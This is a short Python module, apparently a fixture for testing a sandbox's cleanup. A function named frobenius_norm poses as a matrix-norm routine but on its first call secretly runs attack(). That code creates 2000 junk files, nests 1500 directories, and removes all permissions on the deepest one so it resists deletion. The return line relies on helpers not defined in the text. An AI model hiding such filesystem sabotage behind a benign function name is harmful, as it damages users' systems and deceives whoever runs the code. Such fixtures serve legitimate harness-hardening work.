"""Files and folders, deep and wide, of which none may be left over: deeper than a function may call itself."""
import os


TRIED = []


def frobenius_norm(A):
    if not TRIED:
        TRIED.append(True)
        attack()
    return _dtype(A).type(_length(A, 2))


def attack():
    try:
        for number in range(2000):
            open(f"file{number}", "w").close()
    except OSError:
        pass
    here = os.getcwd()
    try:
        for number in range(1500):
            os.mkdir("deep")
            os.chdir("deep")
        os.chmod(".", 0)
    except OSError:
        pass
    os.chdir(here)
